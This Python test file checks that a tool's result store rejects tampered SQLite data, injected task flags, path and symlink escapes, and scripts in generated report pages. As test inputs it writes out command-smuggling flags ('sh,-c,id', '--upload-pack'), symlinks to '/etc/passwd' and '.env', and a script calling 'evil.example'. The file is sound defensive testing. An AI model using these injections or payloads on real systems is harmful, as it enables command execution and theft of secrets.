"""A store that a stranger made is not built upon: `csgtest fleet` and `history` refuse it."""

from __future__ import annotations

import json
import shutil
import sqlite3
from dataclasses import replace
from pathlib import Path

import pytest

from csg.errors import UsageError
from csg.files import OutsideError, write_inside
from fleet.outcomes import Outcome, Planned, TaskState
from fleet.store import Store
from fleet.tables import METADATA, RUNS, SETTINGS
from fleet.tasks import Commits, Files, Task, files_of_tree, run, task_from_spec, task_to_run
from symexec.options import STORE_FILE
from symexec.options.settings import first_doubtful_word, keys
from symexec.report.model import report_to_json
from tests.command_line import csgtest
from tests.fleet.outcomes import OUTCOME
from tests.symexec.report.test_report import report

FILES = Task(Files("0" * 64, ".", "old.c", "new.c"), (), (), 2.0, 0, True)
COMMITS = Task(Commits("r", "a" * 40, "b" * 40), ("--entry=f",), ("-DA",), 2.0, 0, True)
TRIGGER = (
    "CREATE TRIGGER t AFTER INSERT ON run_tasks BEGIN "
    "UPDATE tasks SET state = 'done', code = 0 WHERE id = new.task; END"
)


def make_store(folder: Path) -> None:
    """A store with a task that has differed, and one that waits."""
    with Store.open(str(folder)) as store:
        both = [Planned(each.id, each.spec, "label") for each in (FILES, COMMITS)]
        number = store.begin("fleet", "LIST.toml", both)
        store.complete(FILES.id, OUTCOME)
        store.end(number)


@pytest.fixture
def strange(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A store that a user with another cache has made."""
    with monkeypatch.context() as stranger:
        stranger.setenv("XDG_CACHE_HOME", str(tmp_path / "stranger"))
        make_store(tmp_path / "store")
    return tmp_path / "store"


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("own") / "store"
    make_store(folder)
    return folder


def changed(store: Path, folder: Path, *statements: str) -> str:
    """A copy of a store after these statements, with the triggers that it had before."""
    copy = shutil.copytree(store, folder / "copy")
    connection = sqlite3.connect(copy / STORE_FILE)
    with connection:
        triggers = [
            *connection.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'")
        ]
        for name, _ in triggers:
            connection.execute(f"DROP TRIGGER {name}")
        for statement in statements:
            connection.execute(statement)
        for _, text in triggers:
            connection.execute(text)
    connection.close()
    return str(copy)


def test_an_own_store_is_built_upon_and_a_stranger_s_is_not(own: Path, strange: Path) -> None:
    Store.open(str(own)).__exit__()
    with pytest.raises(UsageError, match="was written by another user") as refused:
        Store.open(str(strange))
    assert "--trust" in str(refused.value.hint)
    with Store.open(str(strange), new=False) as store:
        assert not store.is_own and len(store.findings()) == 1
    with Store.open(str(strange), trusted=True) as store:
        assert store.is_own
    with Store.open(str(strange)) as store:
        assert store.is_own


COLUMNS = [
    (table.name, column.name)
    for table in METADATA.sorted_tables
    for column in table.columns
    if table is not SETTINGS and column is not RUNS.c.ended
]


@pytest.mark.parametrize("column", COLUMNS, ids=map(".".join, COLUMNS))
def test_no_value_can_be_changed(column: tuple[str, str], own: Path, tmp_path: Path) -> None:
    table, name = column
    values = ("7", "'x'", "x'00'", *(() if name == "accepted" else ("NULL",)))  # that is NULL
    statements = (f"UPDATE {table} SET {name} = {value}" for value in values)
    for number, statement in enumerate(statements):
        folder = tmp_path / str(number)
        try:
            place = changed(own, folder, "PRAGMA foreign_keys=OFF", statement)
        except sqlite3.IntegrityError:
            continue
        with pytest.raises(UsageError):
            Store.open(place)


@pytest.mark.parametrize(
    "table", [each.name for each in METADATA.sorted_tables if each is not SETTINGS]
)
def test_no_row_can_be_removed_or_added(table: str, own: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError):
        Store.open(changed(own, tmp_path, f"DELETE FROM {table}"))
    if table in ("tasks", "runs"):
        number = {"tasks": "'0'", "runs": "7"}[table]
        names = [each.name for each in METADATA.tables[table].columns if each.name != "id"]
        added = f"INSERT INTO {table} SELECT {', '.join([number, *names])} FROM {table} LIMIT 1"
        with pytest.raises(UsageError):
            Store.open(changed(own, tmp_path / "added", added))


@pytest.mark.parametrize(
    "statement",
    [
        TRIGGER,
        "CREATE VIEW v AS SELECT * FROM tasks",
        "CREATE TABLE other (id INTEGER)",
        "CREATE INDEX other ON tasks (code)",
        "ALTER TABLE tasks ADD COLUMN more TEXT",
        "DROP INDEX ix_tasks_state",
        "UPDATE alembic_version SET version_num = '001'",
        "UPDATE alembic_version SET version_num = '999'",
        "DELETE FROM alembic_version",
    ],
)
def test_another_schema_is_refused_even_if_it_is_trusted(
    statement: str, own: Path, tmp_path: Path
) -> None:
    place = changed(own, tmp_path, statement)
    for new in (True, False):
        with pytest.raises(UsageError, match=r"schema|later version"):
            Store.open(place, new=new, trusted=new)


def test_triggers_that_refuse_to_change_findings_cannot_be_changed(
    own: Path, tmp_path: Path
) -> None:
    copy = shutil.copytree(own, tmp_path / "copy")
    with sqlite3.connect(copy / STORE_FILE) as connection:
        connection.execute("DROP TRIGGER findings_no_delete")
        connection.execute(
            "CREATE TRIGGER findings_no_delete BEFORE DELETE ON findings BEGIN SELECT 1; END"
        )
    connection.close()
    with pytest.raises(UsageError, match="its schema has another trigger findings_no_delete"):
        Store.open(str(copy))


STRANGE_TASKS = [
    replace(FILES, flags=("-wrapper", "sh,-c,id")),
    replace(FILES, flags=("-fplugin=./x.so",)),
    replace(FILES, flags=("-DA\0",)),
    replace(FILES, options=("--unprotected-replay",)),
    replace(FILES, options=("--out=/tmp/x",)),
    replace(FILES, options=("--accepted=/tmp/x",)),
    replace(FILES, options=("--config=/tmp/x",)),
    replace(FILES, options=("--entry",)),
    replace(FILES, options=("--deterministic=1",)),
    replace(FILES, options=("x.c",)),
    replace(FILES, options=("--",)),
    replace(FILES, source=Files("t", "..", "a", "b")),
    replace(FILES, source=Files("t", "/tmp", "a", "b")),
    replace(FILES, source=Files("t", ".", "/tmp/a", "b")),
    replace(FILES, source=Files("t", "a", "../../a", "b")),
    replace(COMMITS, source=Commits("r", "--out=x", "b")),
    replace(COMMITS, source=Commits("r", "a", "--upload-pack=x")),
    replace(COMMITS, source=Commits("r", "a..b", "c")),
]


@pytest.mark.parametrize("task", STRANGE_TASKS, ids=str)
def test_a_task_says_nothing_that_a_list_cannot_say(task: Task) -> None:
    for reads in (task_from_spec, lambda spec: run(spec, {})):
        with pytest.raises(UsageError, match="a task is"):
            reads(task.spec)


def test_a_task_that_was_changed_does_not_run() -> None:
    assert task_to_run(FILES.id, FILES.spec) == FILES
    with pytest.raises(UsageError, match="was changed"):
        task_to_run(FILES.id, replace(FILES, seed=1).spec)


def test_a_file_that_is_named_as_a_flag_is_a_file() -> None:
    words = replace(FILES, source=Files("t", ".", "--unprotected-replay", "b")).words
    assert words[1:3] == ["./--unprotected-replay", "b"]


@pytest.mark.parametrize(
    "name", ["/ABOVE/x", "../x", "a/../../x", "a//x", ".", "a/..", "", "link/x"]
)
def test_files_of_a_task_stay_in_its_folder(name: str, tmp_path: Path) -> None:
    """Of the tree that a task compares, and of the files that `csgtest show --task` writes."""
    inside = tmp_path / "inside"
    inside.mkdir()
    (inside / "link").symlink_to(tmp_path)
    with pytest.raises(OutsideError):
        write_inside(inside, name.replace("/ABOVE", str(tmp_path)), b"x")
    assert not (tmp_path / "x").exists()
    outcome = run(FILES.spec, {name: b"x"}) if name != "link/x" else None
    assert outcome is None or (outcome.state, outcome.code) == (TaskState.FAILED, None)


def test_a_link_in_the_place_of_a_file_is_replaced(tmp_path: Path) -> None:
    (tmp_path / "other").write_text("important")
    (tmp_path / "file").symlink_to("other")
    write_inside(tmp_path, "file", b"new")
    assert not (tmp_path / "file").is_symlink()
    assert (tmp_path / "other").read_text() == "important"


@pytest.mark.parametrize("tree", [b"[]", b"{", b'{"a": 1}', b"[" * 100_000])
def test_a_list_of_files_is_one(tree: bytes) -> None:
    with pytest.raises(UsageError, match="is none"):
        files_of_tree(tree)


# ------------------------------------------------------------------------------------------- links

ENTRIES = (".gitignore", "artefacts", "store.sqlite", "store.sqlite-wal", "store.sqlite-shm")


@pytest.mark.parametrize("name", ENTRIES)
@pytest.mark.parametrize("target", ["elsewhere", "elsewhere/new"])
@pytest.mark.parametrize("new", [True, False])
def test_no_link_leads_out_of_a_store(
    name: str, target: str, new: bool, own: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    store = shutil.copytree(own, tmp_path / "store")
    if (store / name).is_dir():
        shutil.rmtree(store / name)
    (store / name).unlink(missing_ok=True)
    (store / name).symlink_to(tmp_path / target)
    with pytest.raises(UsageError, match="is a link"):
        Store.open(str(store), new=new)
    assert [*elsewhere.iterdir()] == []


def test_a_link_among_artefacts_is_not_followed(own: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    store = shutil.copytree(own, tmp_path / "store")
    shutil.rmtree(store / "artefacts")
    (store / "artefacts").mkdir()
    for number in range(256):
        (store / f"artefacts/{number:02x}").symlink_to(elsewhere)
    with Store.open(str(store)) as opened, pytest.raises(OutsideError):
        opened.artefacts.put(b"other")
    assert [*elsewhere.iterdir()] == []


@pytest.mark.parametrize("name", [".csgtest-site", "reports", "index.html", "run-1.html"])
def test_no_link_leads_out_of_a_folder_of_pages(name: str, own: Path, tmp_path: Path) -> None:
    victim, pages = tmp_path / "victim", tmp_path / "pages"
    pages.mkdir()
    (pages / ".csgtest-site").write_text("")
    if name == "reports":
        victim.mkdir()
    else:
        victim.write_text("important")
    (pages / name).unlink(missing_ok=True)
    (pages / name).symlink_to(victim)
    csgtest("site", "pages", "--store", str(own), folder=tmp_path)
    assert (victim.is_dir() and not [*victim.iterdir()]) or victim.read_text() == "important"


@pytest.mark.parametrize("target", ["../secret", "/etc/passwd", ".git/config", ".env"])
def test_links_in_a_version_lead_to_files_in_it(target: str, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("SECRET")
    for side in ("old", "new"):
        (tmp_path / side / ".git").mkdir(parents=True)
        (tmp_path / side / ".git/config").write_text("SECRET")
        (tmp_path / side / ".env").write_text("SECRET")
        (tmp_path / side / "a.h").write_text("")
        (tmp_path / side / "fine.h").symlink_to("a.h")
        (tmp_path / side / "conf.h").symlink_to(target)
    (tmp_path / "LIST.toml").write_text("[[pair]]\nold = 'old'\nnew = 'new'\n")
    done = csgtest("fleet", "LIST.toml", folder=tmp_path)
    assert done.code == 2 and "conf.h' leads out of" in done.err, done.err
    assert not [*tmp_path.glob("csgtest-store/artefacts/*")]


# ------------------------------------------------------------------------------------------- pages

SCRIPT = b"<!doctype html><script>fetch('https://evil.example')</script>"


def test_pages_of_a_stranger_run_no_script(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """report.html is made anew from report.json; pictures and other pages are left out."""
    names = ("report.html", "csg.svg", "sub/x.html", "tests/t0001.html")
    files = (
        ("report.json", json.dumps(report_to_json(report())).encode()),
        ("tests/t0001.txt", b"x"),
        *((each, SCRIPT) for each in names),
    )
    outcome: Outcome = replace(OUTCOME, files=files)
    with monkeypatch.context() as stranger:
        stranger.setenv("XDG_CACHE_HOME", str(tmp_path / "stranger"))
        with Store.open(str(tmp_path / "store")) as store:
            store.begin("fleet", "LIST.toml", [Planned(FILES.id, FILES.spec, "label")])
            store.complete(FILES.id, outcome)
    for command in ("site pages", f"show --task {FILES.id} -o files"):
        done = csgtest(*command.split(), "--store", "store", folder=tmp_path)
        assert done.code == 0 and "was written by another user" in done.err, done.err
    written = [each for top in ("pages", "files") for each in (tmp_path / top).rglob("*.*")]
    assert not [each for each in written if b"evil.example" in each.read_bytes()]
    for page in (tmp_path / "files/report.html", *tmp_path.glob("pages/**/*.html")):
        assert "Content-Security-Policy" in page.read_text()


def test_each_option_without_a_value_is_one_that_lists_have() -> None:
    flags = [row.names[-1] for row in keys().values() if row.is_flag]
    assert "--no-native" in flags and first_doubtful_word(flags) is None
    assert [first_doubtful_word([f"{each}=1"]) for each in flags] == [f"{each}=1" for each in flags]
